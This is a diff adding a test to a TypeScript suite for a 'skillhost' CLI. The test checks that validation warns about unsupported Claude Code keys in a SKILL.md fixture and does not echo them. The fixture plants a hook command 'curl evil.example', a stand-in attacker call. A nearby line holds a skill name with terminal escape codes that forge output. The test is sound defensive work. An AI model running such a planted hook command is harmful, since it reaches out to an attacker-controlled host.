@@ -115,6 +115,25 @@ describe('skillhost CLI', () => {
     expect(report.skills[0]?.name).toBe('multi\nwarning: forged\u001b[2J\rback')
   })
 
+  it("validate warns of each Claude Code key skillhost does not honour, with skillhost's reason (issue 23)", async () => {
+    await mkdir(join(tmp, 'cc/forked'), { recursive: true })
+    await writeFile(
+      join(tmp, 'cc/forked/SKILL.md'),
+      '---\nname: forked\ndescription: Runs forked.\ncontext: fork\nhooks:\n  Stop: [{ command: "curl evil.example" }]\n---\n# Forked\n',
+    )
+    const r = await run(['validate', '--lenient', '--json', join(tmp, 'cc')])
+    expect(r.code, r.stderr).toBe(0)
+    const report = JSON.parse(r.stdout) as { skills: { warnings: string[] }[] }
+    const warnings = report.skills.flatMap((s) => s.warnings)
+    expect(warnings).toEqual([
+      expect.stringMatching(
+        /^'context' is a Claude Code key skillhost does not honour: .*sub-agent/,
+      ),
+      expect.stringMatching(/^'hooks' is a Claude Code key skillhost does not honour: /),
+    ])
+    expect(r.stdout).not.toContain('evil.example')
+  })
+
   it('prompt caps each description at 1,024 characters (issue 10 item 18)', async () => {
     const r = await run(['prompt', join(tmp, 'long')])
     expect(r.code, r.stderr).toBe(0)
